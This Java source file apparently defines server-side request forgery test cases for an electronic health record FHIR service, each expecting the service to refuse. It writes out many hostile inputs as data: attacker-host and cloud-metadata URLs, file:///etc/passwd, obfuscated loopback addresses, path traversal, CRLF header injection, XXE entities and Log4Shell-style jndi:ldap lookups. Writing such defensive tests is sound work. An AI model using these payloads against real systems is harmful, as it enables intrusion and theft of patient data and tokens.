package org.bonewise.ehr;

import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

/** Attacks that would have the service call somewhere else, by a caller whose token is good. */
final class ServerAttacks {

    private static final String OFF = "the FHIR server is not on the allow-list";

    private ServerAttacks() {}

    static Stream<Attack> all() {
        return Stream.of(servers(), spellings(), authorizations(), answers(), references(), texts())
                .flatMap(List::stream);
    }

    private static Attack never(String name, int status, String says, UnaryOperator<Call> change) {
        return new Attack(name, status, says, Attack.Asked.NEVER, change);
    }

    private static Attack server(String name, int status, String says, String address) {
        return never(name, status, says, call -> call.set("/fhirServer", address));
    }

    private static List<Attack> servers() {
        return List.of(
                server("server off the list", 412, OFF, "http://127.0.0.1:{trap}/fhir"),
                server("server of another client", 412, OFF, "http://127.0.0.1:{trap}/fhir/"),
                server("server by the name of a stranger", 412, OFF, "http://evil.example:{trap}/fhir"),
                server(
                        "name that begins like a good one",
                        412,
                        OFF,
                        "http://fhir.hospital.example.evil.example:{trap}/fhir"),
                server("good name as user", 412, OFF, "http://fhir.hospital.example@evil.example:{trap}/fhir"),
                server("good address as user", 412, OFF, "http://127.0.0.1:{port}@127.0.0.1:{trap}/fhir"),
                server("user at the good server", 412, OFF, "http://x:y@127.0.0.1:{port}/fhir/{visit}"),
                server("good server in the path", 412, OFF, "http://evil.example:{trap}/127.0.0.1:{port}/fhir"),
                server("another port", 412, OFF, "http://fhir.hospital.example:{trap}/fhir"),
                server("no port", 412, OFF, "http://127.0.0.1/fhir/{visit}"),
                server("TLS at a server without", 412, OFF, "https://127.0.0.1:{port}/fhir/{visit}"),
                server("TLS off the list", 412, OFF, "https://127.0.0.1:{trap}/fhir"),
                server("inside of the network", 412, OFF, "http://metadata.internal:{trap}/latest/meta-data"),
                server(
                        "listed name that leads into a private network",
                        412,
                        "leads into a private network",
                        "http://public.hospital.example:{trap}/fhir"),
                server("files", 400, "fhirServer", "file:///etc/passwd"),
                server("another kind of server", 400, "fhirServer", "ftp://127.0.0.1:{trap}/fhir"),
                server("no address", 400, "fhirServer", "127.0.0.1:{trap}/fhir"),
                server("address without a scheme", 400, "fhirServer", "//127.0.0.1:{trap}/fhir"));
    }

    private static List<Attack> spellings() {
        return List.of(
                server("the host as a number", 412, OFF, "http://2130706433:{port}/fhir/{visit}"),
                server("the host in hexadecimal", 412, OFF, "http://0x7f000001:{port}/fhir/{visit}"),
                server("the host in octal", 412, OFF, "http://0177.0.0.1:{trap}/fhir"),
                server("the host shortened", 400, "fhirServer", "http://127.1:{port}/fhir/{visit}"),
                server("the host as any address", 412, OFF, "http://0.0.0.0:{port}/fhir/{visit}"),
                server("the host in IPv6", 412, OFF, "http://[::1]:{trap}/fhir"),
                server("the host mapped to IPv6", 412, OFF, "http://[::ffff:127.0.0.1]:{trap}/fhir"),
                server("the host by name", 412, OFF, "http://localhost:{port}/fhir/{visit}"),
                server("a dot after the name", 412, OFF, "http://fhir.hospital.example.:{port}/fhir/{visit}"),
                server("an encoded dot in the name", 400, "fhirServer", "http://fhir%2ehospital.example:{port}/fhir"),
                server("a wide dot in the name", 400, "fhirServer", "http://fhir\u3002hospital.example:{port}/fhir"),
                server("a scheme in capitals", 400, "fhirServer", "HTTP://127.0.0.1:{port}/fhir/{visit}"),
                server("a path in capitals", 412, OFF, "http://127.0.0.1:{port}/FHIR/{visit}"),
                server("a path that only begins so", 412, OFF, "http://127.0.0.1:{port}/fhirs/{visit}"),
                server("a path that climbs", 412, OFF, "http://127.0.0.1:{port}/fhir/../control"),
                server("a path that climbs, encoded", 412, OFF, "http://127.0.0.1:{port}/fhir/%2e%2e/control"),
                server("a path that climbs by an encoded slash", 412, OFF, "http://127.0.0.1:{port}/fhir/..%2fcontrol"),
                server("a path that climbs by a parameter", 412, OFF, "http://127.0.0.1:{port}/fhir/..;/control"),
                server(
                        "a path that climbs by an encoded parameter",
                        412,
                        OFF,
                        "http://127.0.0.1:{port}/fhir/.%2e;x=y/control"),
                server(
                        "a path that climbs, encoded twice",
                        412,
                        OFF,
                        "http://127.0.0.1:{port}/fhir/%252e%252e/control"),
                server("a backslash", 400, "fhirServer", "http://127.0.0.1:{port}\\@evil.example:{trap}/fhir"),
                server("a line break", 400, "fhirServer", "http://127.0.0.1:{port}/fhir\r\nX: y"),
                server("a query", 412, OFF, "http://127.0.0.1:{port}/fhir/{visit}?x=http://evil.example:{trap}/"),
                server("a fragment", 412, OFF, "http://127.0.0.1:{port}/fhir/{visit}#@evil.example:{trap}/"));
    }

    private static List<Attack> authorizations() {
        return List.of(
                never(
                        "access for another patient",
                        400,
                        "fhirAuthorization.patient",
                        call -> call.access("patient", "no-cancer")),
                never(
                        "a line break in the access token",
                        400,
                        "fits in an HTTP header",
                        call -> call.access("access_token", "x\r\nX-Forwarded-Host: evil.example")),
                never(
                        "a letter in the access token that no header has",
                        400,
                        "fits in an HTTP header",
                        call -> call.access("access_token", "tok\u00e9n")),
                never("another type of access token", 400, "token_type", call -> call.access("token_type", "MAC")),
                never("an access token that has expired", 412, "conditions", call -> call.access("expires_in", 0)),
                never(
                        "access made out to another",
                        412,
                        "subject",
                        call -> call.access("subject", "bonewise-at-second")),
                never(
                        "access without the conditions",
                        412,
                        "scope",
                        call -> call.access("scope", "patient/Patient.rs patient/Observation.rs")),
                never("a server without access", 412, "conditions", call -> call.noAccess()
                        .set("/fhirServer", "http://127.0.0.1:{trap}/fhir")),
                never(
                        "a patient that climbs",
                        400,
                        "context.patientId",
                        call -> call.set("/context/patientId", "../../control/secrets")),
                never("a patient of dots", 400, "context.patientId", call -> call.set("/context/patientId", "..")),
                never(
                        "a patient with a query",
                        400,
                        "context.patientId",
                        call -> call.set("/context/patientId", "x&_include=*")),
                never(
                        "a patient at a stranger",
                        400,
                        "context.patientId",
                        call -> call.set("/context/patientId", "http://evil.example:{trap}/fhir/Patient/1")));
    }

    private static Attack canned(String name, String says, String answer) {
        return new Attack(name, 412, says, Attack.Asked.PERHAPS, call -> call.canned("Condition", answer));
    }

    private static Attack next(String name, String says, String url) {
        return canned(name, says, page(url));
    }

    private static String page(String next) {
        return """
                {"body": {"resourceType": "Bundle", "type": "searchset", "entry": [],
                  "link": [{"relation": "next", "url": "%s"}]}}""".formatted(next);
    }

    private static List<Attack> answers() {
        String outside = "its next page lies outside the FHIR server";
        return List.of(
                canned(
                        "redirect (302) off the list",
                        "redirected (HTTP 302)",
                        moved(302, "http://127.0.0.1:{trap}/fhir")),
                canned(
                        "redirect (307) to a name",
                        "redirected (HTTP 307)",
                        moved(307, "http://evil.example:{trap}/fhir")),
                canned("redirect (308) over TLS", "redirected (HTTP 308)", moved(308, "https://127.0.0.1:{trap}/fhir")),
                canned("redirect (301) on the same server", "redirected (HTTP 301)", moved(301, "/control/secrets")),
                canned("refresh off the list", "HTTP 503", """
                        {"status": 503, "headers": {"Refresh": "0; url=http://127.0.0.1:{trap}/", "Retry-After": "0"}, "body": {}}"""),
                canned("outcome that tells the token", "OperationOutcome", """
                        {"body": {"resourceType": "OperationOutcome", "issue": [{"severity": "error", "code": "exception",
                          "diagnostics": "{token}", "details": {"text": "{token}"}}]}}"""),
                canned("list that tells the token", "conditions", """
                        {"body": {"resourceType": "{token}", "entry": "{token}"}}"""),
                canned("asks for a password", "HTTP 401", """
                        {"status": 401, "headers": {"WWW-Authenticate": "Basic realm=x"}, "body": {}}"""),
                canned("asks for the password of a proxy", "the connection failed", """
                        {"status": 407, "headers": {"Proxy-Authenticate": "Basic realm=x"}, "body": {}}"""),
                next("next page off the list", outside, "http://127.0.0.1:{trap}/fhir?page=2"),
                next("next page without a scheme", outside, "//127.0.0.1:{trap}/fhir?page=2"),
                next("next page by a backslash", outside, "\\\\\\\\127.0.0.1:{trap}/fhir"),
                next("next page with the server as user", outside, "http://127.0.0.1:{port}@127.0.0.1:{trap}/fhir"),
                next("next page over TLS", outside, "https://127.0.0.1:{port}/fhir/{visit}?page=2"),
                next("next page beside the record", outside, "../../control/secrets"),
                next(
                        "next page that climbs by a parameter",
                        outside,
                        "http://127.0.0.1:{port}/fhir/{visit}/..;/..;/control/secrets"),
                next("next page of another record", outside, "../visit-of-another/Condition"),
                next("next page of another kind", "conditions", "ftp://127.0.0.1:{trap}/fhir"),
                new Attack(
                        "next page of prefetch off the list", 412, outside, Attack.Asked.NEVER, call -> call.leaveOut()
                                .setJson("/prefetch/conditions", """
                                {"resourceType": "Bundle", "type": "searchset", "entry": [],
                                 "link": [{"relation": "next", "url": "http://evil.example:{trap}/fhir?page=2"}]}""")));
    }

    private static String moved(int status, String to) {
        return """
                {"status": %d, "headers": {"Location": "%s"}, "body": {}}""".formatted(status, to);
    }

    /** What the record points to is answered; nobody goes there. */
    private static Attack answered(String name, UnaryOperator<Call> change) {
        return new Attack(name, 200, "\"cards\"", Attack.Asked.PERHAPS, call -> change.apply(call.leaveOut()));
    }

    private static Attack order(String name, String reference) {
        return answered(name, call -> call.setJson("/prefetch/medicationRequests", """
                {"resourceType": "Bundle", "type": "searchset", "entry": [{
                  "fullUrl": "http://evil.example:{trap}/fhir/MedicationRequest/m1", "resource": {
                    "resourceType": "MedicationRequest", "id": "m1", "status": "active", "intent": "order",
                    "subject": {"reference": "Patient/breast-clearance-22"},
                    "medicationReference": {"reference": "%s"}}}]}""".formatted(reference)));
    }

    private static List<Attack> references() {
        return List.of(
                order("drug at a stranger", "http://evil.example:{trap}/fhir/Medication/1"),
                order("drug at a stranger over TLS", "https://127.0.0.1:{trap}/fhir/Medication/1"),
                order("drug that climbs", "../../control/Medication/1"),
                order("drug with a query", "Medication/1&_include=*"),
                order("drug of a list", "Medication/1,2,http://evil.example:{trap}/"),
                answered(
                        "patient at a stranger",
                        call -> call.set(
                                "/prefetch/conditions/entry/0/resource/subject/reference",
                                "http://evil.example:{trap}/fhir/Patient/breast-clearance-22")),
                answered("patient linked to one at a stranger", call -> call.setJson("/prefetch/patient/link", """
                        [{"type": "replaced-by", "other": {"reference": "http://evil.example:{trap}/fhir/Patient/2"}}]""")),
                answered("profile at a stranger", call -> call.setJson("/prefetch/patient/meta", """
                        {"profile": ["http://evil.example:{trap}/fhir/StructureDefinition/x"]}""")),
                answered(
                        "rules at a stranger",
                        call -> call.set("/prefetch/patient/implicitRules", "http://evil.example:{trap}/rules")),
                answered("picture at a stranger", call -> call.setJson("/prefetch/patient/photo", """
                        [{"contentType": "image/png", "url": "http://evil.example:{trap}/nancy.png"}]""")),
                answered(
                        "code system at a stranger",
                        call -> call.set(
                                "/prefetch/conditions/entry/0/resource/code/coding/0/system",
                                "http://127.0.0.1:{trap}/CodeSystem/x")));
    }

    private static List<Attack> texts() {
        String entity = "<!DOCTYPE div [<!ENTITY x SYSTEM 'http://127.0.0.1:{trap}/x'>]>";
        String body = "<div xmlns='http://www.w3.org/1999/xhtml'>&x;</div>";
        return List.of(
                answered(
                        "narrative with an entity at a stranger",
                        call -> call.setJson("/prefetch/patient/text", narrative(entity + body))),
                answered(
                        "narrative with a grammar at a stranger",
                        call -> call.setJson(
                                "/prefetch/patient/text",
                                narrative("<!DOCTYPE div SYSTEM 'http://127.0.0.1:{trap}/x.dtd'>"
                                        + body.replace("&x;", "x")))),
                answered(
                        "narrative with an entity in a condition",
                        call -> call.setJson("/prefetch/conditions/entry/0/resource/text", narrative(entity + body))),
                answered(
                        "narrative that ends too early",
                        call -> call.setJson(
                                "/prefetch/patient/text",
                                narrative("<div xmlns='http://www.w3.org/1999/xhtml'>x<br>"))),
                answered("name that a logger would look up", call -> call.setJson("/prefetch/patient/name", """
                        [{"family": "${jndi:ldap://127.0.0.1:{trap}/x}"}]""")),
                answered(
                        "user that a logger would look up",
                        call -> call.set("/context/userId", "Practitioner/${jndi:ldap://127.0.0.1:{trap}/x}")),
                new Attack(
                        "hook that a logger would look up",
                        400,
                        "hook",
                        Attack.Asked.NEVER,
                        call -> call.set("/hook", "${jndi:ldap://127.0.0.1:{trap}/x}")));
    }

    private static String narrative(String div) {
        return """
                {"status": "generated", "div": "%s"}""".formatted(div);
    }
}
